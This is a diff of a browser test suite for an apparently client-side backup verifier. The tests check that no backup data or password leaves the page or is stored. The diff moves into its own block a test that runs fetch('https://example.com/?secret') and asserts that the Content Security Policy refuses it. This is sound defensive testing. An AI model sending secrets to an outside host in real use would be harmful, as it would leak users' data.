@@ -203,21 +203,28 @@ test('no byte of the backup, and no password, leaves the page or is stored', asy
   await expect(verdictOf(page)).toHaveText('This backup is whole. You can update.');
   for (const request of asked) {
     expect(request).toMatch(
-      /^GET http:\/\/localhost:\d+\/(verify\/|_astro\/[\w.-]+|icon[\w./]*|manifest\.webmanifest)? $/,
+      /^GET http:\/\/localhost:\d+\/(verify\/|(_astro|workers)\/[\w.-]+|icon[\w./]*|manifest\.webmanifest)? $/,
     );
   }
   const kept = await page.evaluate(() =>
     JSON.stringify([localStorage, sessionStorage, document.cookie]),
   );
   expect(kept).toBe('[{},{},""]');
-  // Even a script of ours could not send it elsewhere.
-  const refused = await page.evaluate(() =>
-    fetch('https://example.com/?secret').then(
-      () => 'sent',
-      () => 'refused',
-    ),
-  );
-  expect(refused).toBe('refused');
+});
+
+test.describe('even a script of ours', () => {
+  test.use({ allowedErrors: /violates the (following|document's) Content Security Policy/ });
+
+  test('could not send anything to another host', async ({ page }) => {
+    await page.goto('/verify/');
+    const sent = await page.evaluate(() =>
+      fetch('https://example.com/?secret').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(sent).toBe('refused');
+  });
 });
 
 test.describe('the report', () => {
